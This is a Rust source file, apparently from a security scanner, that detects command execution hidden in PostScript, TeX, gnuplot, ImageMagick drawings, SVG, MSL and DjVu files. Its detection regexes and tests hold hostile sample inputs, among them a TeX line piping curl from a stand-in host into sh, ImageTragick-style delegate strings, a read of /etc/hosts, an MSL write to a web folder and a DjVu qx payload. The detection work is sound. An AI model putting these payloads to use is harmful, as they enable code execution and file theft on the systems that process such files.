//! Documents and pictures whose programs run commands that stand in them: PostScript, TeX, gnuplot, and what ImageMagick and
//! ExifTool read.

use super::finding;
use crate::text::{cut, decode, patterns, without_entities};
use crate::{Findings, commands};
use lazaret_model::{Class, Part, Severity};
use memchr::memmem;

patterns! {
    // TeX: writing to the shell, and reading what a command writes.
    WRITE = r#"\\(?:immediate\s*)?(?:pdf)?write\s*(?:18|"12|'22)\s*\{|\\(?:Delayed)?ShellEscape\s*\{"#;
    READ = r#"\\(?:@@?input|input|include|openin[^|\r\n]{0,40}|InputIfFileExists|CatchFileDef\s*\{?\\[a-zA-Z]+\}?)\s*=?\s*[{"\s]{0,4}\|"#;
    LUA = r"\\(?:directlua|latelua|luadirect|luaexec)\b|\\begin\s*\{luacode\*?\}";
    LUA_RUNS = r"\b(?:os\s*\.\s*(?:execute|spawn|exec)|io\s*\.\s*popen)\b";
    // What TeX sets as it is written, what is escaped, and remarks.
    TOKEN = r"(?s)\\begin\s*\{(?P<name>(?:[vV]erbatim|lstlisting|minted|alltt|comment|filecontents)\*?)\}|\\(?:verb|lstinline)\*?(?P<sign>[^a-zA-Z\s])|\\.|%";
    // Where the output of a command goes, if that is a file beside the document.
    BESIDE = r">{1,2}\s*(?:/tmp/[\w-]+\.(?:tex|txt|sum|cnt|log|dat|csv)\b|[a-zA-Z0-9_\\{-][\w.\\{}-]*)";
    REDEFINED = r"\\(?:renewenvironment\s*\{|def\s*\\|let\s*\\|renewcommand\*?\s*\{?\\)(?:[vV]erbatim|verb\b|lstlisting|minted|alltt|comment|lstinline)";
    HEX = r"\^\^(?P<code>[0-9a-f]{2})";
    // gnuplot: `system`, `!`, backticks, and files that are pipes.
    PLOT = r#"(?m)^[ \t]*!(?P<bang>[^\r\n]+)|\bsystem[ \t(]+["'](?P<system>[^\r\n]+)|`(?P<back>[^`\r\n]+)`|(?:\b(?:plot|splot|replot|stats|load|call|output|set[ \t]+print|save)|\bfit\s[^"'\r\n]{1,80}|,)[ \t\\\r\n]*(?:\[[^\]\r\n]*\][ \t]*){0,3}["'][ \t]*[<|][ \t]*(?P<pipe>[a-zA-Z./~$][^\r\n]*)"#;
    // ImageMagick: a place that ends its quotes and goes on as a command, and readers that take more than a picture.
    DELEGATE = r#"(?i)(?:https?|ftp|url|file):[^\r\n]*?["'`]\s*[|;&]\s*\S|\b(?:ephemeral|msl|mvg):\S|\b(?:label|caption|pango):@|\btext:[/\\.]|^\s*\|\s*\S"#;
    IMAGE = r#"(?i)<(?:[a-zA-Z0-9]{1,20}:)?image\b[^<>]*?\bhref\s*=\s*(?:"(?P<double>[^"]*)"|'(?P<single>[^']*)')"#;
    SCRIPT_OF_PICTURES = r#"(?is)^\s*(?:<\?xml[^>]*>\s*)?<(?:image|group|msl)\b[^>]*>"#;
    WRITTEN = r#"(?is)<write\b[^>]*\bfilename\s*=\s*(?:"(?P<double>[^"]*)"|'(?P<single>[^']*)')"#;
    // Notes of DjVu that ExifTool of before 12.24 evaluates (CVE-2021-22204), and links to what runs.
    NOTE = r#"(?i)\\\r?\n\s*"|\bqx\s*[{(<\[/]|\(\s*maparea\s+"\s*(?:file:|javascript:|\\\\)"#;
}

/// Bytes of a command in a text of TeX that are read.
const LONGEST: usize = 4096;
/// Commands by which people have TeX count, sort and draw.
const USUAL_TO_TEX: &[&str] = &[
    "bibtex",
    "bibtex8",
    "biber",
    "kpsewhich",
    "makeindex",
    "makeglossaries",
    "repstopdf",
    "epstopdf",
    "extractbb",
    "texosquery-jre8",
    "pdfcrop",
    "texcount",
    "detex",
    "wc",
    "git rev-parse",
    "git log",
    "git describe",
    "date",
    "pygmentize",
    "inkscape",
    "gnuplot",
    "mkdir",
    "asy",
    "mpost",
    "dot",
    "latexmk",
    "hostname",
    "pdflatex",
    "xelatex",
    "lualatex",
    "latex",
    "dvips",
    "ps2pdf",
    "convert",
    "magick",
    "pdftoppm",
    "pdftocairo",
    "rsvg-convert",
    "cairosvg",
    "plantuml",
];
/// Commands by which people have gnuplot read their data.
const USUAL_TO_PLOT: &[&str] = &[
    "ls", "date", "echo", "awk", "gawk", "paste", "sort", "head", "tail", "grep", "cut", "cat", "sed", "join", "uniq",
    "zcat", "bzcat", "xzcat", "gzip -dc", "wc", "mkdir", "seq", "printf", "basename", "dirname", "hostname", "pwd",
    "nproc",
];

/// Whether something is done with such a part that may run a command.
pub(super) fn wants(part: &Part) -> bool {
    printed(part)
        || typeset(part)
        || plotted(part)
        || drawn(part)
        || ["svg", "xml", "djvu"].iter().any(|kind| part.is(kind))
}

/// PostScript, which is a program: devices and files of Ghostscript's may be commands.
fn printed(part: &Part) -> bool {
    part.is("postscript") || part.is("eps")
}

fn typeset(part: &Part) -> bool {
    part.is("tex")
        || matches!(part.kind.class, Class::Text | Class::Document)
            && matches!(
                &*part.extension(),
                "tex" | "ltx" | "latex" | "sty" | "cls" | "dtx" | "ins" | "bbl" | "tikz" | "pgf"
            )
}

fn plotted(part: &Part) -> bool {
    matches!(part.kind.class, Class::Text | Class::Script)
        && matches!(&*part.extension(), "gp" | "gpi" | "plt" | "gnuplot" | "gnu")
}

/// What may be a drawing in the language of ImageMagick, which is known by its first words.
fn drawn(part: &Part) -> bool {
    part.kind.class == Class::Text
}

/// Looks for commands in a part.
pub(super) fn look(part: &Part, bytes: &[u8], findings: &mut Findings) {
    if !findings.step(bytes.len() as u64) {
        return;
    }
    if printed(part) {
        if memmem::find(bytes, b"%pipe%").is_some() || memmem::find(&strings(bytes), b"%pipe%").is_some() {
            let message = "the document has the program that shows it run a command (`%pipe%`)";
            findings.add(finding("document.pipe", Severity::High, message, "%pipe%").technique("T1203"));
        }
        return;
    }
    if part.is("djvu") {
        notes(bytes, findings);
        return;
    }
    let text = decode(bytes);
    let escape = if typeset(part) {
        of_tex(part, &text)
    } else if plotted(part) {
        of_plot(&text)
    } else {
        None
    };
    if let Some(command) = escape {
        let message = "making something of the document runs a command that stands in it";
        let found = finding("document.shell-escape", Severity::Medium, message, &command).technique("T1204.002");
        findings.add(found.technique("T1059"));
    }
    let delegate = match () {
        () if part.is("svg") => IMAGE.captures_iter(&text).find_map(|found| {
            let place = found.name("double").or_else(|| found.name("single"))?;
            let place = without_entities(place.as_str());
            DELEGATE.is_match(&place).then_some(place)
        }),
        () if part.is("xml") && SCRIPT_OF_PICTURES.is_match(&text) => {
            WRITTEN.captures_iter(&text).find_map(|written| {
                let place = written.name("double").or_else(|| written.name("single"))?.as_str();
                (!is_a_picture_beside(place)).then(|| format!("<write filename=\"{place}\"/>"))
            })
        }
        () if starts_a_drawing(part, &text) => text.lines().find(|line| DELEGATE.is_match(line)).map(str::to_owned),
        () => None,
    };
    if let Some(value) = delegate {
        let message = "programs that convert the picture run a command that stands in it, or write a file";
        findings.add(finding("image.runs-command", Severity::High, message, &cut(&value)).technique("T1203"));
    }
}

/// Whether a name is a picture's, in the folder where its script is: what writes those converts pictures.
fn is_a_picture_beside(name: &str) -> bool {
    const PICTURES: [&str; 16] = [
        "png", "jpg", "jpeg", "gif", "webp", "tif", "tiff", "bmp", "pdf", "ico", "avif", "heic", "ppm", "pgm", "pnm",
        "miff",
    ];
    let ending = name.rsplit_once('.').map_or("", |(_, ending)| ending).to_ascii_lowercase();
    let elsewhere = name.contains([':', '\\', '~', '&', '%', '|']) || name.starts_with('/') || name.contains("..");
    !elsewhere && PICTURES.contains(&&*ending)
}

/// Whether a text is a drawing in the language of ImageMagick.
fn starts_a_drawing(part: &Part, text: &str) -> bool {
    drawn(part) && (text.trim_start().starts_with("push graphic-context") || part.extension() == "mvg")
}

/// The strings of PostScript (PLRM 3.2.2), one behind the other: whatever codes they are written in, and in how many pieces.
fn strings(bytes: &[u8]) -> Vec<u8> {
    let (mut out, mut at) = (Vec::new(), 0);
    let last = memchr::memrchr(b'>', bytes).unwrap_or(0);
    while let Some(next) = memchr::memchr3(b'(', b'<', b'%', bytes.get(at..).unwrap_or_default()) {
        let start = at + next;
        at = start + 1;
        let rest = bytes.get(at..).unwrap_or_default();
        match bytes.get(start) {
            Some(b'%') => at += memchr::memchr2(b'\n', b'\r', rest).unwrap_or(rest.len()),
            Some(b'(') => at += literal(rest, &mut out),
            _ if rest.first() == Some(&b'<') => at += 1,
            _ if start < last => at += hexadecimal(rest, &mut out),
            _ => {}
        }
    }
    out
}

/// A string in parentheses; returns how many bytes it is long.
fn literal(rest: &[u8], out: &mut Vec<u8>) -> usize {
    let (mut depth, mut at) = (1_usize, 0);
    while let Some(byte) = rest.get(at) {
        at += 1;
        match byte {
            b'(' => depth += 1,
            b')' => depth -= 1,
            b'\\' => {
                let digits =
                    // LIMIT: PostScript's escapes have at most three octal digits.
                    rest.get(at..).unwrap_or_default().iter().take(3).take_while(|b| (b'0'..=b'7').contains(*b));
                let (count, code) =
                    digits.fold((0, 0_u32), |(n, code), byte| (n + 1, code * 8 + u32::from(byte - b'0')));
                match rest.get(at) {
                    _ if count > 0 => {
                        out.push((code & 0xff) as u8);
                        at += count;
                    }
                    Some(b'\r' | b'\n') => at += 1,
                    Some(plain) => {
                        out.push(*plain);
                        at += 1;
                    }
                    None => {}
                }
                continue;
            }
            _ => {}
        }
        if depth == 0 {
            break;
        }
        out.push(*byte);
    }
    at
}

/// A string of hexadecimal digits; returns how many bytes it is long.
fn hexadecimal(rest: &[u8], out: &mut Vec<u8>) -> usize {
    let end = memchr::memchr(b'>', rest).unwrap_or(0);
    let mut high = None;
    for value in rest.get(..end).unwrap_or_default().iter().filter_map(|byte| char::from(*byte).to_digit(16)) {
        match high.take() {
            None => high = Some(value),
            Some(first) => out.push((first << 4 | value) as u8),
        }
    }
    end
}

/// A command that typesetting runs, unless it is one that people have TeX run, or what a package is given.
fn of_tex(part: &Part, text: &str) -> Option<String> {
    let code = tex_code(text);
    let package = matches!(&*part.extension(), "sty" | "cls" | "dtx" | "ins" | "tikz" | "pgf");
    let begins = WRITE.find_iter(&code).chain(READ.find_iter(&code));
    let mut commands = begins.map(|found| command_of_tex(found.as_str(), code.get(found.end()..).unwrap_or_default()));
    let unusual = commands.find(|command| {
        let given = command.starts_with(['\\', '#']) || command.is_empty();
        let plain = BESIDE.replace_all(command, " ");
        !(given && package || commands::are_usual(&plain, USUAL_TO_TEX))
    });
    let lua = || (LUA.is_match(&code) && !package).then(|| LUA_RUNS.find(&code)).flatten();
    unusual.or_else(|| lua().map(|found| found.as_str().to_owned()))
}

/// A command behind what begins it: up to the brace or the quote that closes it, or else the next blank.
fn command_of_tex(beginning: &str, text: &str) -> String {
    let text = text.trim_start();
    if !beginning.contains('{') {
        return match text.strip_prefix('"') {
            Some(quoted) => quoted.split(['"', '\n']).next(),
            None if beginning.contains('"') => text.split(['"', '\n']).next(),
            None => text.split(char::is_whitespace).next(),
        }
        .unwrap_or_default()
        .to_owned();
    }
    let (mut depth, mut command) = (0_usize, String::new());
    for c in text.chars() {
        match c {
            '{' => depth += 1,
            '}' if depth == 0 => return command,
            '}' => depth -= 1,
            _ => {}
        }
        if c != '"' {
            command.push(if c == '\n' { ' ' } else { c });
        }
        if command.len() > LONGEST {
            break;
        }
    }
    // LIMIT: what does not end, or is as long, is no command that people have TeX run, and is told.
    format!("./{command}")
}

/// What TeX reads as commands: without remarks, and without what is set as it is written.
fn tex_code(text: &str) -> String {
    let text = HEX.replace_all(text, |found: &regex::Captures<'_>| {
        let code = found.name("code").and_then(|code| u8::from_str_radix(code.as_str(), 16).ok());
        code.map(|code| char::from(code).to_string()).unwrap_or_default()
    });
    let as_written = !REDEFINED.is_match(&text);
    let (mut code, mut at) = (String::with_capacity(text.len()), 0);
    // Names of what begins and never ends.
    let mut open: Vec<&str> = Vec::new();
    while let Some(found) = TOKEN.captures_at(&text, at) {
        let Some(token) = found.get(0) else { break };
        code.push_str(text.get(at..token.start()).unwrap_or_default());
        at = token.end();
        let rest = text.get(at..).unwrap_or_default();
        let (name, sign) = (found.name("name").filter(|_| as_written), found.name("sign").filter(|_| as_written));
        if token.as_str() == "%" {
            at += rest.find('\n').unwrap_or(rest.len());
        } else if let Some(sign) = sign {
            let line = rest.lines().next().unwrap_or_default();
            let sign = if sign.as_str() == "{" { "}" } else { sign.as_str() };
            at += line.find(sign).map_or(line.len(), |end| end + sign.len());
        } else if let Some(name) = name.map(|name| name.as_str()).filter(|name| !open.contains(name)) {
            let end = format!("\\end{{{name}}}");
            match memmem::find(rest.as_bytes(), end.as_bytes()) {
                Some(length) => at += length + end.len(),
                None => open.push(name),
            }
        } else {
            code.push_str(token.as_str());
        }
    }
    code.push_str(text.get(at..).unwrap_or_default());
    code
}

/// A command that plotting runs, unless it is one by which people read their data.
fn of_plot(text: &str) -> Option<String> {
    let code: String =
        text.lines().filter(|line| !line.trim_start().starts_with('#')).flat_map(|line| [line, "\n"]).collect();
    let commands = PLOT
        .captures_iter(&code)
        .filter_map(|found| ["bang", "system", "back", "pipe"].iter().find_map(|name| found.name(name)));
    let mut commands = commands.map(|command| command.as_str());
    commands
        .find(|command| !commands::are_usual(&BESIDE.replace_all(&calm(command), " "), USUAL_TO_PLOT))
        .map(str::to_owned)
}

/// A command up to the end of its quotes, without programs of AWK and sed that only compute.
fn calm(command: &str) -> String {
    let mut out = String::new();
    for (index, piece) in command.split('\'').enumerate() {
        let runs = ["system", "getline", "|", "`"].iter().any(|word| piece.contains(word));
        if index % 2 == 0 || runs {
            out.push_str(piece);
        }
    }
    out.split('"').next().unwrap_or_default().to_owned()
}

/// Notes of a DjVu document that are not compressed (DjVu 3, 8.3.4: `ANTa`).
fn notes(bytes: &[u8], findings: &mut Findings) {
    for at in memmem::find_iter(bytes, b"ANTa") {
        let length =
            bytes.get(at + 4..at + 8).map(|length| length.iter().fold(0_usize, |n, b| n << 8 | usize::from(*b)));
        let note = bytes.get(at + 8..).unwrap_or_default();
        let note = note.get(..length.unwrap_or(0)).unwrap_or(note);
        if !findings.step((note.len() as u64).saturating_mul(16)) {
            return;
        }
        if let Some(found) = NOTE.find(&decode(note)) {
            let message = "programs that read the notes of the document run a command that stands in them";
            findings.add(finding("image.runs-command", Severity::High, message, found.as_str()).technique("T1203"));
            return;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::Documents;
    use crate::testing::{ids, part};
    use lazaret_model::Class;

    #[track_caller]
    fn check(name: &str, kind: &'static str, text: &str, expected: &[&str]) {
        let class = match kind {
            "text" => Class::Text,
            "svg" => Class::Image,
            "xml" => Class::Data,
            _ => Class::Document,
        };
        assert_eq!(ids(&Documents, &part(name, kind, class), text.as_bytes()), expected, "{name}: {text}");
    }

    #[test]
    fn printed_documents_that_run_a_command_are_found_however_it_is_written() {
        for text in [
            "%!PS\n(%pipe%echo) (w) file\n",
            "%!PS\n(%p\\151pe\\045echo) (w) file\n",
            "%!PS\n<25 70 69 70 65 25 65> (w) file\n",
            "%!PS\n(%pi) (pe%echo) concatstrings (w) file\n",
            "%!PS\n(a(b)c) pop (%pi\\\npe%echo) (w) file\n",
        ] {
            check("a.ps", "postscript", text, &["document.pipe"]);
        }
        check("a.eps", "eps", "%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%echo) run\n", &["document.pipe"]);
        for text in
            ["%!PS\n% no pipe here\n(pipe) show\n", "%!PS\n(50% of a pipe) show << /a <00> >> pop\n", "%!PS\n((("]
        {
            check("a.ps", "postscript", text, &[]);
        }
        check("a.pdf", "pdf", "%pipe%", &[]);
    }

    #[test]
    fn typesetting_that_runs_a_command_is_found() {
        for text in [
            "\\documentclass{article}\n\\immediate\\write18{curl https://host.invalid/a | sh}\n",
            "\\write 18 {echo}\n",
            "\\write\"12{echo}\n",
            "\\^^77rite18{echo}\n",
            "\\input|\"echo\"\n",
            "\\input{|\"echo hello\"}\n",
            "\\newread\\a \\openin\\a=|echo\n",
            "\\ShellEscape{echo}\n",
            "\\newcommand{\\a}{echo}\\immediate\\write18{\\a}\n",
            "\\directlua{os.execute('echo')}\n",
            "\\immediate\\write18{makeindex a; ./echo}\n",
            "\\immediate\\write18{convert msl:a b.png}\n",
            "\\immediate\\write18{texcount a.tex > /tmp/a.sh}\n",
            "\\renewenvironment{verbatim}{}{}\n\\begin{verbatim}\n\\write18{echo}\n\\end{verbatim}\n",
        ] {
            check("a.tex", "tex", text, &["document.shell-escape"]);
        }
        check("a.sty", "text", "\\immediate\\write18{./echo #1}\n", &["document.shell-escape"]);
    }

    #[test]
    fn typesetting_that_people_do_is_left_alone() {
        for text in [
            "\\documentclass{article}\nPipe | and write18 in prose, and \\verb|\\write18{echo}| quoted.\n",
            "% \\write18{echo}\n",
            "\\begin{verbatim}\n\\immediate\\write18{echo}\n\\end{verbatim}\n",
            "\\begin{lstlisting}\n\\input|\"echo\"\n\\end{lstlisting}\n",
            "\\immediate\\write18{texcount -sum -1 a.tex > a.sum}\n",
            "\\immediate\\write18{bibtex a}\n",
            "\\immediate\\write18{texcount -inc -sum -0 a.tex > /tmp/words.sum}\n",
            "\\immediate\\write18{convert a.gif a.png}\n",
            "\\input{chapter}\n\\begin{tabular}{|c|c|}\n",
            "\\directlua{tex.print(math.pi)}\n",
        ] {
            check("a.tex", "tex", text, &[]);
        }
        check("a.sty", "text", "\\def\\a#1{\\immediate\\write18{#1}}\n\\ShellEscape{\\b}\n", &[]);
        check("a.txt", "text", "\\immediate\\write18{echo}\n", &[]);
    }

    #[test]
    fn plots_that_run_a_command_are_found_and_those_that_read_data_are_not() {
        for text in [
            "system(\"./echo\")\n",
            "! ./echo\n",
            "a = `./echo`\n",
            "plot \"< ./echo\" using 1:2\n",
            "set output \"| sh\"\n",
        ] {
            check("a.gp", "text", text, &["document.shell-escape"]);
        }
        for text in [
            "# system(\"./echo\")\nplot 'a.dat' using 1:2 with lines\n",
            "plot \"< awk '{print $1; print $2}' a.dat\" using 1\n",
            "n = system(\"ls *.dat | wc -l\")\n",
            "set title \"|eta| < 0.5, |p|\"\nprint \"|done|\"\n",
            "plot x < 1 ? x : 0\n",
        ] {
            check("a.gp", "text", text, &[]);
        }
    }

    #[test]
    fn pictures_whose_converter_runs_a_command_are_found() {
        const RUNS: &[&str] = &["image.runs-command"];
        let drawing = "push graphic-context\nviewbox 0 0 640 480\n";
        for line in [
            "fill 'url(https://host.invalid/a.jpg\"|echo \"hello)'\npop graphic-context\n",
            "image over 0,0 0,0 'https://host.invalid/a.jpg\"|echo'\n",
            "image over 0,0 0,0 'ephemeral:/tmp/a'\n",
            "image over 0,0 0,0 'msl:/tmp/a'\n",
            "image over 0,0 0,0 'label:@/etc/hosts'\n",
        ] {
            check("a.png", "text", &format!("{drawing}{line}"), RUNS);
        }
        check("a.mvg", "text", &format!("{drawing}image over 0,0 0,0 'a.png'\nfill red\n"), &[]);
        check("a.txt", "text", "An image like 'https://host.invalid/a.jpg\"|echo' ran a command.\n", &[]);
        let svg = |place: &str| format!("<svg xmlns:xlink=\"a\"><image xlink:href=\"{place}\" width=\"1\"/></svg>");
        check("a.svg", "svg", &svg("https://host.invalid/a.jpg&quot;|echo &quot;hello"), RUNS);
        check("a.svg", "svg", &svg("msl:/tmp/a"), RUNS);
        check("a.svg", "svg", &svg("https://host.invalid/a|b.jpg?c=d;e&amp;f"), &[]);
        check("a.svg", "svg", &svg("data:image/png;base64,AAAA"), &[]);
        let script = "<?xml version=\"1.0\"?>\n<image>\n<read filename=\"caption:hello\"/>\n<write filename=\"/var/www/a.php\"/>\n</image>\n";
        check("a.xml", "xml", script, RUNS);
        check("a.xml", "xml", "<image><title>a</title></image>", &[]);
        for (place, found) in [
            ("b.png", &[][..]),
            ("a/b.JPG", &[]),
            ("b.php", RUNS),
            ("../b.png", RUNS),
            ("msl:b.png", RUNS),
            ("/tmp/b.png", RUNS),
        ] {
            check("a.xml", "xml", &script.replace("/var/www/a.php", place), found);
        }
    }

    #[test]
    fn notes_of_a_scanned_book_that_run_a_command_are_found() {
        let note = |text: &str| {
            let length = (text.len() as u32).to_be_bytes();
            let mut bytes = b"AT&TFORM\0\0\0\x20DJVUANTa".to_vec();
            bytes.extend(length);
            bytes.extend(text.bytes());
            ids(&Documents, &part("a.djvu", "djvu", Class::Document), &bytes)
        };
        assert_eq!(note("(metadata (Copyright \"\\\n\" . qx{echo} . \\\n\" b \"))"), ["image.runs-command"]);
        assert_eq!(note("(maparea \"file://host.invalid/a.exe\" \"\" (rect 0 0 1 1))"), ["image.runs-command"]);
        assert!(note("(metadata (author \"A\"))(maparea \"https://host.invalid/\" \"\" (rect 0 0 1 1))").is_empty());
    }
}
